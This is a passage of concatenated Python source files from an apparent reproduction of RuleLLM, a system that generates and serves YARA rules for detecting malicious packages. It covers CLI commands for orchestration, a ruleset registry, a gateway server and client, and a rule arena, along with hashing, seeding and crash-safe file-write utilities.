        config=ScanServiceConfig(
            mode="inprocess",
            match_threshold=max(1, args.threshold),
            live_rescan=True,
        )
    )
    config = RuleLLMConfig.full(model=args.model, seed=args.seed)

    baseline_count = min(len(malware), max(0, round(len(malware) * args.baseline)))
    if baseline_count:
        baseline = GenerationSession(config, registry=service.registry)
        baseline.add_batch(malware[:baseline_count])
        result = baseline.generate(label="baseline")
        if result.version is not None:
            print(f"baseline: {result.describe()}")
            scanned = service.scan_batch(scan_targets)
            print(
                f"pre-scanned {scanned.packages} packages with "
                f"v{scanned.ruleset_version} (re-scan window primed)"
            )

    orchestrator = GenerationOrchestrator(
        config=config,
        plan=plans[args.plan](),
        registry=service.registry,
        max_workers=args.max_workers,
        store=store,
    )
    if args.sigkill_after_shards is not None:
        # CI crash harness: die hard (no atexit, no cleanup) once N shard
        # checkpoints are durable, so --resume has something real to recover
        import os
        import signal as signal_module

        kill_after = max(1, args.sigkill_after_shards)

        def _die_after(label: str, completed: int) -> None:
            if completed >= kill_after:
                print(f"sigkill-after-shards: {completed} checkpoint(s) durable, "
                      f"dying after shard {label}", flush=True)
                os.kill(os.getpid(), signal_module.SIGKILL)

        orchestrator.on_shard_checkpoint = _die_after
    print(f"orchestrating {shards}-shard fleet ({args.plan} plan, {args.model}) ...")
    fleet = orchestrator.run(
        malware,
        publish=args.publish,
        label=f"{args.model} fleet",
        resume=args.resume,
    )
    if fleet.resumed:
        print(f"resumed {len(fleet.resumed)} checkpointed shard(s): "
              + ", ".join(fleet.resumed))
    print(fleet.describe())
    if fleet.version is None:
        print("no rules survived alignment; nothing published", file=sys.stderr)
        return 1
    for record in fleet.version.provenance:
        print(f"  shard {record.describe()}")

    delta = service.last_rescan
    if delta is not None:
        print(delta.describe())
    print("\nregistry state:")
    print(service.registry.describe())

    batch = service.scan_batch(scan_targets)
    malicious = sum(
        1 for d in batch.detections if d.predicted(batch.result.match_threshold)
    )
    print(
        f"\nscanned {batch.packages} packages with ruleset v{batch.ruleset_version}: "
        f"{malicious} flagged malicious "
        f"({batch.cache_hits} served straight from the re-scan's cache fill)"
    )

    if args.output:
        output = fleet.rule_set.save(args.output)
        print(f"wrote merged rule files under {output}")
    if args.registry_dir:
        version_dir, version = _registry_dir_add(Path(args.registry_dir), fleet.rule_set)
        print(f"saved merged rules as {version_dir} (active v{version})")
    if args.json:
        report = {
            "fleet": fleet.to_dict(),
            "rescan": delta.to_dict() if delta is not None else None,
            "registry_versions": service.registry.versions(),
            "active_version": service.registry.current_version(),
            "scanned_packages": batch.packages,
            "flagged_malicious": malicious,
        }
        if recovery is not None:
            report["recovery"] = recovery.to_dict()
        Path(args.json).parent.mkdir(parents=True, exist_ok=True)
        Path(args.json).write_text(
            json_module.dumps(report, indent=2, sort_keys=True) + "\n",
            encoding="utf-8",
        )
        print(f"wrote report to {args.json}")
    if store is not None:
        service.registry.snapshot()  # fold the run into one recovery point
        store.close()
    return 0


# -- on-disk registry directories ---------------------------------------------------
_ACTIVE_MARKER = "ACTIVE"
_RETIRED_FILE = "RETIRED.json"


def _registry_dir_tombstones(root: Path) -> list[dict]:
    """Retirement records of an on-disk registry (empty when none)."""
    import json as json_module

    try:
        records = json_module.loads(
            (root / _RETIRED_FILE).read_text(encoding="utf-8")
        )
    except (OSError, ValueError):
        return []
    return records if isinstance(records, list) else []


def _registry_dir_add_tombstone(root: Path, record: dict) -> None:
    import json as json_module

    from repro.utils.atomic import atomic_write_text

    records = _registry_dir_tombstones(root)
    records.append(record)
    atomic_write_text(
        root / _RETIRED_FILE,
        json_module.dumps(records, indent=2, sort_keys=True) + "\n",
    )


def _registry_dir_versions(root: Path) -> dict[int, Path]:
    versions: dict[int, Path] = {}
    if root.is_dir():
        for path in root.iterdir():
            if path.is_dir() and path.name.startswith("v") and path.name[1:].isdigit():
                versions[int(path.name[1:])] = path
    return versions


def _registry_dir_active(root: Path) -> int | None:
    marker = root / _ACTIVE_MARKER
    try:
        return int(marker.read_text(encoding="utf-8").strip())
    except (OSError, ValueError):
        return None


def _registry_dir_add(root: Path, ruleset) -> tuple[Path, int]:
    """Save ``ruleset`` as the next version of ``root`` and activate it."""
    from repro.utils.atomic import atomic_write_text

    versions = _registry_dir_versions(root)
    version = max(versions, default=0) + 1
    version_dir = root / f"v{version}"
    ruleset.save(version_dir)
    # the marker flip is the activation: make it atomic + durable so a crash
    # never leaves a half-written marker pointing nowhere
    atomic_write_text(root / _ACTIVE_MARKER, f"{version}\n")
    return version_dir, version


def _cmd_registry(args) -> int:
    from repro.scanserve import RulesetRegistry

    root = Path(args.dir)
    if (root / "journal").is_dir():  # new store layout: route through repro.store
        return _cmd_registry_store(args, root)
    versions = _registry_dir_versions(root)
    active = _registry_dir_active(root)

    if args.registry_command == "list":
        if not versions:
            print(f"no versions under {root}")
            return 0
        # publish every version into a scratch registry: this compiles the
        # rules (surfacing rot early) and builds the prefilter index whose
        # stats the summary line reports
        registry = RulesetRegistry()
        for version in sorted(versions):
            marker = "*" if version == active else " "
            ruleset = GeneratedRuleSet.load(versions[version])
            if not ruleset.rules:
                print(f"{marker} v{version}: (empty or unreadable)")
                continue
            published = registry.publish_generated(
                ruleset, label=versions[version].name, activate=False
            )
            stats = published.index.stats()
            print(
                f"{marker} v{version}: {published.rule_count} rules, "
                f"{stats.atoms} atoms, {stats.indexed_fraction:.0%} indexed"
            )
        for record in _registry_dir_tombstones(root):
            by = f" by {record['retired_by']}" if record.get("retired_by") else ""
            why = f": {record['reason']}" if record.get("reason") else ""
            print(f"x v{record['version']} retired{by}{why}")
        return 0

    if args.version not in versions:
        known = ", ".join(f"v{v}" for v in sorted(versions)) or "none"
        print(f"unknown version v{args.version} under {root} (known: {known})",
              file=sys.stderr)
        return 1

    if args.registry_command == "activate":
        from repro.utils.atomic import atomic_write_text

        atomic_write_text(root / _ACTIVE_MARKER, f"{args.version}\n")
        print(f"activated v{args.version}")
        return 0

    if args.registry_command == "retire":
        if args.version == active:
            print(f"cannot retire the active version v{args.version}",
                  file=sys.stderr)
            return 1
        import shutil
        import time

        ruleset = GeneratedRuleSet.load(versions[args.version])
        _registry_dir_add_tombstone(root, {
            "version": args.version,
            "reason": args.reason,
            "retired_by": args.retired_by,
            "retired_at": time.time(),
            "rule_count": len(ruleset.rules),
        })
        shutil.rmtree(versions[args.version])
        suffix = f" ({args.reason})" if args.reason else ""
        print(f"retired v{args.version}{suffix}")
        return 0
    return 2


def _cmd_registry_store(args, root: Path) -> int:
    """`rulellm registry` against a store-backed root: same verbs, recovered
    from snapshot blobs + journal tail instead of ``v<N>/`` directories."""
    from repro.scanserve import RulesetRegistry
    from repro.store import open_store

    store, report = open_store(root, create=False)
    with store:
        registry = RulesetRegistry.from_store(store)
        for note in registry.recovery_notes:
            print(f"note: {note}", file=sys.stderr)

        if args.registry_command == "list":
            if not report.ok:
                print(report.describe(), file=sys.stderr)
            print(registry.describe())
            return 0

        if args.version not in registry.versions():
            known = ", ".join(f"v{v}" for v in registry.versions()) or "none"
            print(f"unknown version v{args.version} in store {root} "
                  f"(known: {known})", file=sys.stderr)
            return 1

        if args.registry_command == "activate":
            registry.activate(args.version)
            registry.snapshot()
            print(f"activated v{args.version}")
            return 0

        if args.registry_command == "retire":
            try:
                record = registry.retire(
                    args.version, reason=args.reason, retired_by=args.retired_by
                )
            except ValueError as exc:
                print(str(exc), file=sys.stderr)
                return 1
            registry.snapshot()
            if record is not None:
                print(record.describe())
            return 0
    return 2


# -- gateway serving ----------------------------------------------------------------
def _parse_tenant_spec(spec: str, default_quota):
    """``NAME[:CAPACITY[:REFILL]]`` -> (name, TenantQuota)."""
    from repro.gateway import TenantQuota

    name, _, rest = spec.partition(":")
    if not rest:
        return name, default_quota
    capacity, _, refill = rest.partition(":")
    return name, TenantQuota(
        capacity=float(capacity),
        refill_per_second=float(refill) if refill else default_quota.refill_per_second,
        max_pending_jobs=default_quota.max_pending_jobs,
    )


def _cmd_serve(args) -> int:
    import asyncio
    import signal

    from repro.gateway import (
        GatewayApp,
        GatewayConfig,
        GatewayHttpServer,
        TenantQuota,
    )

    if args.trace:
        from repro.obs import configure_tracing

        configure_tracing(sink=args.trace)
        print(f"tracing enabled -> {args.trace} (inspect with 'rulellm obs')")

    default_quota = TenantQuota(capacity=args.capacity, refill_per_second=args.refill)
    config = GatewayConfig(
        workers=max(1, args.workers),
        history_limit=max(1, args.history),
        default_quota=default_quota,
        auto_register=not args.no_auto_tenant,
        model=args.model,
        seed=args.seed,
    )

    store = None
    if args.store:
        from repro.store import open_store

        store, recovery = open_store(args.store)
        print(recovery.describe())

    async def main() -> int:
        app = await GatewayApp(config, store=store).start()
        if app.interrupted_jobs:
            print(f"marked {len(app.interrupted_jobs)} job(s) from the previous "
                  f"run as interrupted")
        for spec in args.tenant:
            name, quota = _parse_tenant_spec(spec, default_quota)
            tenant = app.register_tenant(name, quota)
            print(f"registered tenant {tenant.name} "
                  f"(burst {quota.capacity:g}, {quota.refill_per_second:g}/s)")
        server = GatewayHttpServer(app, host=args.host, port=args.port)
        port = await server.start()
        print(f"gateway listening on http://{args.host}:{port} "
              f"({config.workers} workers, model {config.model})", flush=True)
        if args.ready_file:
            Path(args.ready_file).write_text(
                f"{args.host} {port}\n", encoding="utf-8"
            )
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGINT, signal.SIGTERM):
            try:
                loop.add_signal_handler(sig, stop.set)
            except NotImplementedError:  # non-unix event loops
                pass
        await stop.wait()
        print("shutting down: draining in-flight jobs ...", flush=True)
        await server.stop()
        await app.shutdown(drain=True)
        if store is not None:
            store.close()
        counts = app.jobs.counts()
        print(f"gateway stopped (jobs: {counts})")
        return 0

    try:
        return asyncio.run(main())
    except KeyboardInterrupt:
        return 0


def _client_corpus(args):
    """Packages for a client submission: directories, or a synthetic corpus."""
    if args.packages:
        package_dirs = _discover_package_dirs(args.packages)
        return [load_package_from_directory(path) for path in package_dirs]
    dataset = build_dataset(DatasetConfig(scale=args.scale, seed=args.seed))
    if args.client_command == "generate":
        return dataset.malware
    return dataset.packages


def _client_write_json(payload, json_path) -> None:
    if json_path:
        import json as json_module

        Path(json_path).parent.mkdir(parents=True, exist_ok=True)
        Path(json_path).write_text(
            json_module.dumps(payload, indent=2, sort_keys=True) + "\n",
            encoding="utf-8",
        )
        print(f"wrote {json_path}")


def _print_job(job: dict) -> None:
    line = f"job {job['id']} [{job['tenant']}] {job['state']}"
    if job.get("error"):
        line += f": {job['error']}"
    print(line)
    result = job.get("result")
    if result:
        if "summary" in result:
            print(f"  {result['summary']}")
        if "flagged" in result:
            print(f"  {result['malicious']}/{result['packages']} flagged malicious "
                  f"({result['packages_per_second']:.1f} pkg/s, "
                  f"v{result['ruleset_version']})")


def _cmd_client(args) -> int:
    from repro.gateway import GatewayClient, GatewayError, RateLimited

    client = GatewayClient(args.url)
    try:
        return _run_client_command(client, args)
    except RateLimited as exc:
        print(f"rate limited: {exc} (retry after {exc.retry_after:.1f}s)",
              file=sys.stderr)
        return 3
    except GatewayError as exc:
        print(str(exc), file=sys.stderr)
        return 1
    except (ConnectionError, OSError) as exc:
        print(f"cannot reach gateway at {args.url}: {exc}", file=sys.stderr)
        return 1


def _run_client_command(client, args) -> int:
    if args.client_command == "health":
        health = client.health()
        print(f"ok={health['ok']} tenants={health['tenants']} jobs={health['jobs']}")
        return 0

    if args.client_command == "metrics":
        if args.format == "prom":
            sys.stdout.write(client.metrics_text())
            return 0
        metrics = client.metrics()
        if args.format == "json":
            import json as json_module

            print(json_module.dumps(metrics, indent=2, sort_keys=True))
            _client_write_json(metrics, args.json)
            return 0
        jobs = metrics["jobs"]
        print(f"jobs: {jobs.get('queued', 0)} queued, "
              f"{jobs.get('running', 0)} running, "
              f"{sum(jobs.values())} total; "
              f"accepting={metrics['accepting']} "
              f"open_feeds={metrics['open_feeds']}")
        for tenant in metrics["tenants"]:
            print(f"  {tenant['name']}: queue_depth={tenant['queue_depth']} "
                  f"running={tenant['running']} "
                  f"submitted={tenant['jobs_submitted']} "
                  f"quota_rejections={tenant['quota_rejections']}")
        _client_write_json(metrics, args.json)
        return 0

    if args.client_command == "events":
        report = client.events(args.tenant, after=args.after, wait=args.wait)
        for note in report["notifications"]:
            payload = note["payload"]
            if note["kind"] == "publish":
                detail = (f"v{payload['version']} ({payload['rule_count']} rules, "
                          f"{payload['kind']})")
            elif note["kind"] == "rescan":
                detail = (f"-> v{payload['to_version']}: {len(payload['new'])} new, "
                          f"{len(payload['changed'])} changed, "
                          f"{len(payload['cleared'])} cleared")
            else:
                detail = str(payload)
            print(f"#{note['seq']} {note['kind']}: {detail}")
        print(f"cursor: {report['cursor']}")
        _client_write_json(report, args.json)
        return 0

    if args.client_command == "status":
        job = client.job(args.tenant, args.job, wait=args.wait)
        _print_job(job)
        _client_write_json(job, args.json)
        return 0 if job["state"] != "failed" else 1

    if args.client_command == "cancel":
        job = client.cancel_job(args.tenant, args.job)
        _print_job(job)
        return 0

    packages = _client_corpus(args)
    if not packages:
        print("no packages to submit", file=sys.stderr)
        return 1

    if args.client_command == "scan":
        job = client.submit_scan_with_retry(
            args.tenant, packages, label=args.label
        )
        print(f"submitted scan job {job['id']} ({len(packages)} packages)")
    else:  # generate: open feed, stream batches, close
        job = client.open_generation(args.tenant, label=args.label)
        print(f"opened generation feed {job['id']}")
        batches = max(1, min(args.batches, len(packages)))
        chunk = -(-len(packages) // batches)
        for start in range(0, len(packages), chunk):
            fed = client.feed_generation(
                args.tenant, job["id"], packages[start:start + chunk]
            )
            print(f"  fed {fed['fed']} packages")
        client.close_generation(args.tenant, job["id"])
        print("feed closed; generation running")

    if args.wait > 0:
        job = client.wait_job(args.tenant, job["id"], timeout=args.wait)
    else:
        job = client.job(args.tenant, job["id"])
    _print_job(job)
    _client_write_json(job, args.json)
    return 0 if job["state"] != "failed" else 1


# -- arena --------------------------------------------------------------------------
def _arena_read_state(state_dir: str, name: str) -> dict:
    import json as json_module

    path = Path(state_dir) / name
    try:
        return json_module.loads(path.read_text(encoding="utf-8"))
    except OSError as exc:
        raise SystemExit(f"cannot read {path}: {exc} (run 'rulellm arena run "
                         f"--state-dir {state_dir}' first)")
    except ValueError as exc:
        raise SystemExit(f"corrupt state file {path}: {exc}")


def _cmd_arena(args) -> int:
    import json as json_module

    if args.arena_command == "leaderboard":
        board = _arena_read_state(args.state_dir, "leaderboard.json")
        entries = board.get("entries", [])[: args.limit]
        if not entries:
            print("(empty leaderboard)")
        for entry in entries:
            delta = entry.get("rank_delta", 0)
            arrow = "=" if not delta else (f"+{delta}" if delta > 0 else str(delta))
            status = entry.get("status", "active")
            flag = f" [{status}]" if status != "active" else ""
            print(f"#{entry['rank']} ({arrow}) {entry['rule']}: "
                  f"{entry['score']:.3f} (best {entry['best_score']:.3f}, "
                  f"{entry['rounds']} rounds){flag}")
        _client_write_json(board, args.json)
        return 0

    if args.arena_command == "history":
        saved = _arena_read_state(args.state_dir, "rounds.json")
        rounds = saved.get("rounds", [])[-args.limit:]
        if not rounds:
            print("(no rounds recorded)")
        for record in rounds:
            retired = record.get("retired_rules", [])
            extras = []
            if retired:
                extras.append(f"retired {len(retired)} rule(s)")
            if record.get("refeed_version") is not None:
                extras.append(f"refeed -> v{record['refeed_version']}")
            suffix = f" [{'; '.join(extras)}]" if extras else ""
            print(f"round {record['index']} v{record['version']}: "
                  f"{record['packages']} pkgs "
                  f"({record['malicious']} malicious){suffix}")
        _client_write_json(saved, args.json)
        return 0

    # arena run
    from repro.api import GenerationSession
    from repro.arena import (
        ArenaConfig,
        ArenaRunner,
        Leaderboard,
        LifecyclePolicy,
        ReplayTraffic,
        TrafficConfig,
    )
    from repro.scanserve import ScanService, ScanServiceConfig

    state_dir = Path(args.state_dir) if args.state_dir else None
    if state_dir is not None:
        state_dir.mkdir(parents=True, exist_ok=True)

    dataset = build_dataset(DatasetConfig(scale=args.scale, seed=args.seed))
    print(f"corpus: {len(dataset.malware)} malicious, "
          f"{len(dataset.benign)} benign packages")

    store = None
    registry = None
    if args.store:
        from repro.scanserve import RulesetRegistry
        from repro.store import open_store

        store, recovery = open_store(args.store)
        print(recovery.describe())
        registry = RulesetRegistry.from_store(store)
    service = ScanService(
        registry=registry,
        config=ScanServiceConfig(mode="inprocess", match_threshold=1)
    )
    session = GenerationSession(
        config=RuleLLMConfig.full(model=args.model, seed=args.seed),
        registry=service.registry,
    )
    session.add_batch(dataset.malware)
    baseline = session.generate(label="arena-baseline")
    print(f"baseline: v{baseline.version.version} "
          f"({len(baseline.rule_set.rules)} rules)")

    traffic = ReplayTraffic(dataset.malware, TrafficConfig(
        seed=args.seed,
        packages_per_round=max(2, args.packages_per_round),
        obfuscation_base=0.0,
        obfuscation_step=args.obfuscation_step,
    ))
    retire_after = max(1, args.retire_after)
    runner = ArenaRunner(
        service,
        traffic,
        leaderboard=Leaderboard(
            path=state_dir / "leaderboard.json" if state_dir else None
        ),
        policy=LifecyclePolicy(
            decay_threshold=args.decay_threshold,
            flag_after=1,
            quarantine_after=max(1, retire_after - 1),
            retire_after=retire_after,
        ),
        config=ArenaConfig(
            policy=args.policy,
            refeed=not args.no_refeed,
            model=args.model,
            seed=args.seed,
        ),
        history_path=state_dir / "rounds.json" if state_dir else None,
        store=store,
    )
    runner.register_sources(baseline.version.version, baseline.rule_set)
    if store is not None and not runner.history and runner.next_round_index:
        print(f"resuming round numbering at {runner.next_round_index} "
              f"(journal remembers earlier rounds)")

    for _ in range(max(1, args.rounds)):
        record = runner.run_round()
        print(record.describe())
        for action in record.actions:
            print(f"  {action.describe()}")

    print("\nleaderboard:")
    print(runner.leaderboard.describe(limit=10))
    retirements = service.registry.retirements()
    if retirements:
        print("\nretired versions:")
        for tombstone in retirements:
            print(f"  {tombstone.describe()}")

    if args.json:
        report = {
            "seed": args.seed,
            "policy": args.policy,
            "baseline_version": baseline.version.version,
            "rounds": [record.to_dict() for record in runner.history],
            "retirements": [tombstone.to_dict() for tombstone in retirements],
            "leaderboard": runner.leaderboard.to_dict(),
        }
        Path(args.json).parent.mkdir(parents=True, exist_ok=True)
        Path(args.json).write_text(
            json_module.dumps(report, indent=2, sort_keys=True) + "\n",
            encoding="utf-8",
        )
        print(f"wrote {args.json}")
    if store is not None:
        service.registry.snapshot()  # fold the run into one recovery point
        store.close()
    return 0


def _cmd_evaluate(args) -> int:
    dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
    if args.scale < 0.5:
        dataset_config.benign_modules_range = (3, 6)
        dataset_config.benign_pieces_per_module_range = (8, 16)
    suite = ExperimentSuite(dataset_config, RuleLLMConfig.full(model=args.model, seed=args.seed))
    print(suite.table8_baselines().render())
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="rulellm", description=__doc__)
    subparsers = parser.add_subparsers(dest="command", required=True)
    _add_generate(subparsers)
    _add_scan(subparsers)
    _add_scan_batch(subparsers)
    _add_pipeline(subparsers)
    _add_orchestrate(subparsers)
    _add_registry(subparsers)
    _add_store(subparsers)
    _add_serve(subparsers)
    _add_client(subparsers)
    _add_arena(subparsers)
    _add_evaluate(subparsers)
    _add_obs(subparsers)
    args = parser.parse_args(argv)
    if args.command == "generate":
        return _cmd_generate(args)
    if args.command == "scan":
        return _cmd_scan(args)
    if args.command == "scan-batch":
        return _cmd_scan_batch(args)
    if args.command == "pipeline":
        return _cmd_pipeline(args)
    if args.command == "orchestrate":
        return _cmd_orchestrate(args)
    if args.command == "registry":
        return _cmd_registry(args)
    if args.command == "store":
        return _cmd_store(args)
    if args.command == "serve":
        return _cmd_serve(args)
    if args.command == "client":
        return _cmd_client(args)
    if args.command == "arena":
        return _cmd_arena(args)
    if args.command == "evaluate":
        return _cmd_evaluate(args)
    if args.command == "obs":
        return _cmd_obs(args)
    parser.error(f"unknown command {args.command!r}")
    return 2


if __name__ == "__main__":
    raise SystemExit(main())
