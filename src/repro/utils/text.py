"""Small text-manipulation helpers shared across the pipeline."""

from __future__ import annotations

import re
import textwrap

_WHITESPACE_RE = re.compile(r"\s+")


def dedent_code(code: str) -> str:
    """Dedent a triple-quoted code template and strip leading blank lines."""
    return textwrap.dedent(code).lstrip("\n")


def normalize_whitespace(text: str) -> str:
    """Collapse all whitespace runs to single spaces and strip the ends."""
    return _WHITESPACE_RE.sub(" ", text).strip()


def truncate_middle(text: str, max_length: int, marker: str = " ... ") -> str:
    """Truncate ``text`` to ``max_length`` characters, cutting the middle.

    Used when embedding long code excerpts in prompts: the head and tail of a
    snippet usually carry the imports and the behaviour, so both are kept.
    """
    if max_length <= 0:
        return ""
    if len(text) <= max_length:
        return text
    if max_length <= len(marker):
        return text[:max_length]
    keep = max_length - len(marker)
    head = keep // 2 + keep % 2
    tail = keep // 2
    return text[:head] + marker + (text[-tail:] if tail else "")


def split_lines_keepends(text: str) -> list[str]:
    """Split into lines preserving line endings (like ``str.splitlines(True)``)."""
    return text.splitlines(keepends=True)


def indent_block(text: str, prefix: str = "    ") -> str:
    """Indent every non-empty line of ``text`` by ``prefix``."""
    return "\n".join(prefix + line if line.strip() else line for line in text.splitlines())


def count_loc(text: str) -> int:
    """Count non-blank, non-comment lines of Python code."""
    count = 0
    for line in text.splitlines():
        stripped = line.strip()
        if stripped and not stripped.startswith("#"):
            count += 1
    return count


def safe_identifier(name: str) -> str:
    """Convert an arbitrary string into a valid Python/YARA identifier."""
    cleaned = re.sub(r"[^0-9A-Za-z_]", "_", name)
    if not cleaned or cleaned[0].isdigit():
        cleaned = "_" + cleaned
    return cleaned
