"""Deterministic randomness.

All stochastic behaviour in the reproduction (corpus generation, the
simulated LLM's recall/precision/fault sampling, baseline sampling) is driven
by :class:`DeterministicRandom`, a thin wrapper around :class:`random.Random`
whose seeds are *derived* from string scopes rather than global state.  This
keeps independent subsystems decorrelated while remaining fully reproducible:
``derive_seed(1633, "corpus", "malware")`` always yields the same seed.
"""

from __future__ import annotations

import random
from typing import Iterable, Sequence, TypeVar

from repro.utils.hashing import stable_hash

T = TypeVar("T")


def derive_seed(base_seed: int, *scope: str) -> int:
    """Derive a child seed from ``base_seed`` and a scope path.

    The derivation mixes the base seed with a stable hash of the scope
    strings, so two different scopes never share a stream and the same scope
    always reproduces the same stream.
    """
    scope_hash = stable_hash("\x1f".join(scope), bits=63)
    return (base_seed * 0x9E3779B97F4A7C15 + scope_hash) & ((1 << 63) - 1)


class DeterministicRandom:
    """A seeded random stream scoped to a named subsystem."""

    def __init__(self, base_seed: int, *scope: str) -> None:
        self.seed = derive_seed(base_seed, *scope)
        self._rng = random.Random(self.seed)

    # -- primitive draws -------------------------------------------------
    def random(self) -> float:
        return self._rng.random()

    def randint(self, low: int, high: int) -> int:
        return self._rng.randint(low, high)

    def uniform(self, low: float, high: float) -> float:
        return self._rng.uniform(low, high)

    def gauss(self, mu: float, sigma: float) -> float:
        return self._rng.gauss(mu, sigma)

    # -- collection draws ------------------------------------------------
    def choice(self, seq: Sequence[T]) -> T:
        if not seq:
            raise ValueError("cannot choose from an empty sequence")
        return self._rng.choice(seq)

    def choices(self, seq: Sequence[T], k: int) -> list[T]:
        return self._rng.choices(seq, k=k)

    def sample(self, seq: Sequence[T], k: int) -> list[T]:
        k = min(k, len(seq))
        return self._rng.sample(seq, k)

    def shuffle(self, items: list[T]) -> list[T]:
        """Return a shuffled *copy* of ``items`` (the input is untouched)."""
        copy = list(items)
        self._rng.shuffle(copy)
        return copy

    def coin(self, probability: float) -> bool:
        """Return True with the given probability."""
        if probability <= 0.0:
            return False
        if probability >= 1.0:
            return True
        return self._rng.random() < probability

    def weighted_choice(self, items: Sequence[T], weights: Sequence[float]) -> T:
        if len(items) != len(weights):
            raise ValueError("items and weights must have the same length")
        return self._rng.choices(list(items), weights=list(weights), k=1)[0]

    def subseed(self, *scope: str) -> int:
        """Derive a further child seed below this stream's seed."""
        return derive_seed(self.seed, *scope)

    def child(self, *scope: str) -> "DeterministicRandom":
        """Return a new independent stream scoped below this one."""
        return DeterministicRandom(self.seed, *scope)


def spread(values: Iterable[float]) -> float:
    """Return max - min of an iterable of floats (0.0 for empty input)."""
    values = list(values)
    if not values:
        return 0.0
    return max(values) - min(values)
