"""Deterministic hashing helpers.

Python's built-in ``hash`` is salted per process, so every piece of the
pipeline that needs a stable fingerprint (package deduplication, seed
derivation, fault-injection decisions in the simulated LLM) uses the SHA-256
based helpers in this module instead.
"""

from __future__ import annotations

import hashlib
from typing import Iterable


def stable_digest(text: str) -> str:
    """Return the full hexadecimal SHA-256 digest of ``text``."""
    return hashlib.sha256(text.encode("utf-8", errors="replace")).hexdigest()


def stable_hash(text: str, bits: int = 64) -> int:
    """Return a deterministic non-negative integer hash of ``text``.

    Parameters
    ----------
    text:
        Arbitrary unicode text.
    bits:
        Width of the returned integer (1 - 256).
    """
    if not 1 <= bits <= 256:
        raise ValueError(f"bits must be in [1, 256], got {bits}")
    digest = hashlib.sha256(text.encode("utf-8", errors="replace")).digest()
    value = int.from_bytes(digest, "big")
    return value & ((1 << bits) - 1)


def content_signature(parts: Iterable[str]) -> str:
    """Return a signature identifying a package's *content*.

    Used by the deduplication step (paper Table VI: 3,200 packages reduce to
    1,633 unique ones because many uploads share identical code).  Two
    packages with the same set of file contents -- regardless of file order,
    package name or version -- produce the same signature.
    """
    hasher = hashlib.sha256()
    for part in sorted(parts):
        hasher.update(stable_digest(part).encode("ascii"))
        hasher.update(b"\x00")
    return hasher.hexdigest()
