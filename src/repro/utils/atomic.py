"""Crash-safe file writes, in one place.

Three subsystems grew their own "write to a sibling temp file, then
``os.replace`` over the target" implementations (the disk result cache, the
arena leaderboard, the on-disk registry layout) — and all three stopped at
the rename.  A rename alone guarantees readers never observe a *torn* file,
but not that the file survives power loss: the data must be ``fsync``-ed
before the rename, and the *directory entry* must be ``fsync``-ed after it,
or a crash can roll the whole operation back (or worse, leave the new name
pointing at zero-length data on some filesystems).

This module is the single implementation.  ``durable=True`` (the default)
does the full fsync-file-then-fsync-directory dance — what the write-ahead
journal, checkpoints and registry layouts need.  ``durable=False`` keeps
only the atomicity (readers still never see partial content) and skips the
syncs — right for throwaway data like cache entries, where losing a recent
write costs a re-scan, not correctness.
"""

from __future__ import annotations

import os
from pathlib import Path

__all__ = [
    "atomic_write_bytes",
    "atomic_write_text",
    "fsync_dir",
    "replace_durable",
]


def fsync_dir(directory: str | os.PathLike) -> bool:
    """Flush a directory entry table to disk; ``False`` where unsupported.

    Windows cannot open directories for syncing and some filesystems
    (network mounts) refuse — treated as best-effort, not an error.
    """
    try:
        fd = os.open(os.fspath(directory), os.O_RDONLY)
    except OSError:
        return False
    try:
        os.fsync(fd)
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def replace_durable(scratch: str | os.PathLike, target: str | os.PathLike) -> None:
    """``os.replace`` plus a directory fsync so the rename itself persists."""
    os.replace(scratch, target)
    fsync_dir(Path(target).parent)


def atomic_write_bytes(
    path: str | os.PathLike, data: bytes, durable: bool = True
) -> Path:
    """Atomically (and by default durably) write ``data`` to ``path``.

    The write lands in a same-directory scratch file first, so the rename
    is atomic on every platform ``os.replace`` supports.  With ``durable``
    the file content is fsync-ed before the rename and the directory after
    it; without, concurrent readers still never see a torn file but a crash
    may lose the write entirely.
    """
    target = Path(path)
    scratch = target.with_name(target.name + ".tmp")
    fd = os.open(os.fspath(scratch), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            if durable:
                handle.flush()
                os.fsync(handle.fileno())
    except BaseException:
        try:
            os.unlink(scratch)
        except OSError:
            pass
        raise
    os.replace(scratch, target)
    if durable:
        fsync_dir(target.parent)
    return target


def atomic_write_text(
    path: str | os.PathLike,
    text: str,
    encoding: str = "utf-8",
    durable: bool = True,
) -> Path:
    """Text-mode convenience over :func:`atomic_write_bytes`."""
    return atomic_write_bytes(path, text.encode(encoding), durable=durable)
