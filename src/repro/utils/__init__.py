"""Shared low-level utilities used across the RuleLLM reproduction.

The helpers here are intentionally dependency-light: deterministic hashing,
seeded pseudo-randomness, small text manipulation helpers and a thin logging
shim.  Every stochastic decision in the project flows through
:class:`repro.utils.seeding.DeterministicRandom` so that a given corpus seed
reproduces the same packages, the same simulated-LLM behaviour and therefore
the same evaluation numbers.
"""

from repro.utils.hashing import stable_hash, content_signature, stable_digest
from repro.utils.seeding import DeterministicRandom, derive_seed
from repro.utils.text import (
    dedent_code,
    normalize_whitespace,
    truncate_middle,
    split_lines_keepends,
)

__all__ = [
    "stable_hash",
    "stable_digest",
    "content_signature",
    "DeterministicRandom",
    "derive_seed",
    "dedent_code",
    "normalize_whitespace",
    "truncate_middle",
    "split_lines_keepends",
]
