"""Malware-variant detection experiment (paper Section V-B).

The paper clusters the malware corpus, generates YARA rules from two
packages of each group and checks whether those rules detect the group's
remaining, unseen variants.  Reported numbers: 90.32% of all variants
detected overall, 96.62% average per-group detection rate.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.config import RuleLLMConfig
from repro.core.pipeline import RuleLLM
from repro.corpus.package import Package
from repro.evaluation.detector import RuleScanner
from repro.extraction.clustering import cluster_packages


@dataclass
class GroupVariantResult:
    """Variant detection within one cluster."""

    cluster_id: int
    seeds: list[str] = field(default_factory=list)
    variants: int = 0
    detected: int = 0
    rules_generated: int = 0

    @property
    def detection_rate(self) -> float:
        return self.detected / self.variants if self.variants else 1.0


@dataclass
class VariantDetectionResult:
    """Aggregate variant-detection outcome."""

    groups: list[GroupVariantResult] = field(default_factory=list)

    @property
    def total_variants(self) -> int:
        return sum(group.variants for group in self.groups)

    @property
    def total_detected(self) -> int:
        return sum(group.detected for group in self.groups)

    @property
    def overall_detection_rate(self) -> float:
